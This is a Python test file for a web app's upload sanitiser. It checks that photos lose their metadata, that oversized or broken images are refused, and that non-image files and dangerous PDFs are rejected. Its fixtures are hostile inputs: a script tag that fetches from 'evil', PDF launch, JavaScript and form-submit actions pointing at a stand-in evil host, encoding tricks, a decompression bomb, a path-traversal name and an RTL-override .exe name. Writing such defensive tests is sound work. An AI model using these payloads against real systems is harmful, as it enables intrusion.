"""Hostile and honest files at the door (T33)."""

import io
import random

import pytest
from PIL import Image

from notoneless.documents.uploads import LONG_EDGE, SIZE_LIMIT, CleanFile, clean_upload
from notoneless.domain.refusal import Refusal
from tests.documents.pictures import packed, pdf, photo, png_that_claims

SCRIPT = b"<script>fetch('//evil')</script>"


def kept(content: bytes, name: str = "a.jpg") -> CleanFile:
    found = clean_upload(name=name, content=content)
    assert isinstance(found, CleanFile), found
    return found


def rule(content: bytes, name: str = "a.jpg") -> str:
    found = clean_upload(name=name, content=content)
    assert isinstance(found, Refusal)
    assert found.reason.endswith("。")
    return found.rule


def test_a_photo_loses_where_and_with_what_it_was_taken() -> None:
    before = photo(gps=True)
    assert b"MarkerPhone" in before
    clean = kept(before)
    picture = Image.open(io.BytesIO(clean.content))
    assert b"MarkerPhone" not in clean.content
    assert not dict(picture.getexif())
    assert "exif" not in picture.info
    assert picture.size == (640, 480)


def test_a_photo_held_on_its_side_is_kept_upright() -> None:
    assert Image.open(io.BytesIO(kept(photo(turned=True)).content)).size == (480, 640)


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_script_after_the_picture_is_gone(kind: str) -> None:
    clean = kept(photo(kind=kind) + SCRIPT)
    assert b"script" not in clean.content
    assert clean.media_type == f"image/{kind.lower()}"


def test_text_inside_a_png_is_gone() -> None:
    from PIL.PngImagePlugin import PngInfo

    notes, out = PngInfo(), io.BytesIO()
    notes.add_text("Comment", "MarkerWords")
    Image.new("RGB", (20, 20)).save(out, "PNG", pnginfo=notes)
    assert b"MarkerWords" in out.getvalue()
    assert b"MarkerWords" not in kept(out.getvalue()).content


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_comments_and_colour_profiles_are_gone(kind: str) -> None:
    out = io.BytesIO()
    words = {"comment": b"MarkerComment"} if kind == "JPEG" else {}
    Image.new("RGB", (20, 20)).save(out, kind, icc_profile=b"MarkerProfile" * 9, **words)
    picture = Image.open(io.BytesIO(kept(out.getvalue()).content))
    picture.load()
    assert not {"comment", "icc_profile"} & set(picture.info)
    assert "icc_profile" in Image.open(out).info


def test_a_large_photo_becomes_readable_and_not_larger() -> None:
    clean = kept(photo(7000, 5000))
    assert max(Image.open(io.BytesIO(clean.content)).size) == LONG_EDGE


@pytest.mark.parametrize(("width", "height"), [(30_000, 30_000), (200_000, 1_000), (7_000, 7_000)])
def test_a_picture_that_would_fill_the_memory_is_refused_before_it_is_decoded(
    width: int, height: int
) -> None:
    assert rule(png_that_claims(width, height)) == "file.pixels"


def test_a_jpeg_of_too_many_pixels_is_refused() -> None:
    content = bytearray(photo(64, 64))
    start = content.index(b"\xff\xc0")
    content[start + 5 : start + 9] = (60_000).to_bytes(2, "big") * 2
    assert rule(bytes(content)) == "file.pixels"


@pytest.mark.parametrize("mode", ["L", "RGBA", "LA", "P", "1", "I;16"])
def test_every_common_kind_of_png_is_kept(mode: str) -> None:
    clean = kept(photo(32, 32, kind="PNG", mode=mode) if mode not in ("P", "1", "I;16") else _odd(mode))
    assert Image.open(io.BytesIO(clean.content)).mode in ("L", "RGB")


def _odd(mode: str) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (32, 32)).save(out, "PNG")
    return out.getvalue()


def test_what_is_see_through_becomes_white_paper() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (0, 0, 0, 0)).save(out, "PNG")
    assert Image.open(io.BytesIO(kept(out.getvalue()).content)).getpixel((4, 4)) == (255, 255, 255)


def test_a_cmyk_photo_is_kept_as_rgb() -> None:
    out = io.BytesIO()
    Image.new("CMYK", (32, 32)).save(out, "JPEG")
    assert Image.open(io.BytesIO(kept(out.getvalue()).content)).mode == "RGB"


def test_cut_and_scrambled_pictures_are_refused_and_never_break_the_page() -> None:
    whole = {"JPEG": photo(), "PNG": photo(kind="PNG")}
    assert rule(whole["JPEG"][:200]) == "file.broken"
    dice = random.Random(7)
    for kind, content in whole.items():
        for _ in range(60):
            spoiled = bytearray(content)
            for _ in range(20):
                spoiled[dice.randrange(12, len(spoiled))] = dice.randrange(256)
            found = clean_upload(name=f"x.{kind}", content=bytes(spoiled))
            assert isinstance(found, Refusal | CleanFile)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "file.empty"),
        (b"\xff\xd8\xff" + b"0" * SIZE_LIMIT, "file.size"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "file.heic"),
        (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00", "file.video"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "file.markup"),
        (b"  <!DOCTYPE html><html></html>", "file.markup"),
        (b"<?xml version='1.0'?><svg/>", "file.markup"),
        (b"PK\x03\x04rest", "file.office"),
        (b"\xd0\xcf\x11\xe0rest", "file.office"),
        (b"GIF89a", "file.kind"),
        (b"SIMPLE  =                    T", "file.kind"),
        (b"RIFF1234WEBP", "file.kind"),
    ],
)
def test_other_files_are_refused_with_a_way_out(content: bytes, expected: str) -> None:
    assert rule(content, "photo.jpg") == expected


def test_a_plain_pdf_is_kept_byte_for_byte() -> None:
    content = pdf(packed(b"3 0 << /Type /Page >>"))
    clean = kept(content, "证明.PDF")
    assert (clean.content, clean.media_type, clean.name) == (content, "application/pdf", "证明.pdf")


@pytest.mark.parametrize(
    "hostile",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /J#61vaScript /JS (app.alert(1)) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /Names << /EmbeddedFiles 9 0 R >> >>",
        b"<< /Type /RichMedia /Subtype /RichMedia >>",
        b"<< /S /SubmitForm /F (http://evil) >>",
    ],
)
def test_a_pdf_that_acts_is_refused_also_when_its_objects_are_packed(hostile: bytes) -> None:
    assert rule(pdf(hostile)) == "file.pdf_active"
    assert rule(pdf(packed(b"3 0 " + hostile))) == "file.pdf_active"
    assert rule(pdf(packed(hostile, words=b"/Type /Ob#6aStm /Filter /Fl#61teDecode"))) == "file.pdf_active"


def test_a_pdf_that_cannot_be_looked_into_is_refused() -> None:
    twice = packed(b"x", words=b"/Type /ObjStm /Filter [/ASCIIHexDecode /LZWDecode]")
    assert rule(pdf(twice)) == "file.pdf_unreadable"
    assert rule(pdf(packed(b"0" * 40_000_000))) == "file.pdf_unreadable"
    assert rule(pdf(tail=b"/Encrypt 5 0 R")) == "file.pdf_locked"
    assert rule(pdf()[:-7]) == "file.pdf_cut"


def test_a_pdf_bomb_ends_quickly() -> None:
    import time

    bomb = packed(b"0" * 200_000_000, words=b"/Filter /FlateDecode")
    began = time.monotonic()
    assert rule(pdf(*[bomb] * 20)) == "file.pdf_unreadable"
    assert time.monotonic() - began < 5


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\照片\\家访.png", "家访.jpg"),
        ("a\x00b\u202egpj.exe", "abgpj.jpg"),
        ("", "文件.jpg"),
        ("x" * 500, "x" * 80 + ".jpg"),
        ("𠮷家·证明.jpeg", "𠮷家·证明.jpg"),
    ],
)
def test_a_name_is_only_a_name(given: str, expected: str) -> None:
    assert kept(photo(8, 8), given).name == expected
